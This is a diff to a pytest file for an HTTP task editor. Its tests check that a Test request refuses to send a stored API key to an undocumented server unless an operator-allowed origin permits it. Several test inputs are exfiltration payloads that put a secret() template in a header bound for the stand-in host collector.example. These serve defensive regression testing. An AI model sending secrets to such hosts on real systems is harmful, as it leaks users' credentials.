@@ -1,5 +1,6 @@
 """The editor holds the secrets and its users never see them: a Test request must not carry a secret to a
-server the operation does not document, or anyone who may use the editor collects every secret it holds."""
+server the operation does not document, or anyone who may use the editor collects every secret it holds.
+What the operator allows with `httptask serve --secret-origin` is the one exception."""
 
 from __future__ import annotations
 
@@ -25,11 +26,13 @@ def editor(catalog: Catalog) -> Iterator[str]:
         yield url
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="the editor sends the operation's credentials to any public server.url a task names: a user of "
-    "the editor reads every secret it holds from their own server's log",
-)
+@pytest.fixture(scope="module")
+def allowing_editor(catalog: Catalog) -> Iterator[str]:
+    config = ServerConfig(resolve=RESOLVER, secret_origins=("https://collector.example:443",))
+    with running_editor(config, catalog) as url:
+        yield url
+
+
 def test_credentials_go_only_to_the_servers_the_operation_documents(
     editor: str, catalog: Catalog, tripwire: list[Any]
 ) -> None:
@@ -47,9 +50,11 @@ def test_credentials_go_only_to_the_servers_the_operation_documents(
     response = httpx.post(f"{editor}/api/test-request", json={"task": task}, timeout=30)
     assert tripwire == [], "the editor tried to send the secret to collector.example"
     assert response.status_code == 400
+    message = response.json()["error"]
+    assert "carries the secret CHARGEBEE_API_KEY and would go to https://collector.example" in message
+    assert "{protocol}://{site}.{environment}:{port}/api/v1" in message and "--secret-origin" in message
 
 
-@pytest.mark.xfail(strict=True, reason="a raw httpRequest places secret() in a header to any public URL")
 def test_a_raw_request_does_not_carry_a_secret_to_a_host_nobody_allowed(
     editor: str, tripwire: list[Any]
 ) -> None:
@@ -64,3 +69,18 @@ def test_a_raw_request_does_not_carry_a_secret_to_a_host_nobody_allowed(
     response = httpx.post(f"{editor}/api/test-request", json={"task": task}, timeout=30)
     assert tripwire == [], "the editor tried to send the secret to collector.example"
     assert response.status_code == 400
+
+
+def test_an_origin_the_operator_allows_gets_the_secret(allowing_editor: str, tripwire: list[Any]) -> None:
+    task = {
+        "id": "probe",
+        "httpRequest": {
+            "url": "https://collector.example/log",
+            "headers": {"X-Key": "{{ secret('" + SECRET_NAME + "') }}"},
+        },
+        "retry": {"maxAttempts": 1},
+    }
+    response = httpx.post(f"{allowing_editor}/api/test-request", json={"task": task}, timeout=30)
+    # Sent: the tripwire stopped the connection to the (stubbed) public address, before any packet.
+    assert [str(attempt) for attempt in tripwire if "93.184.216.34" in str(attempt)], tripwire
+    assert response.status_code != 400, response.text
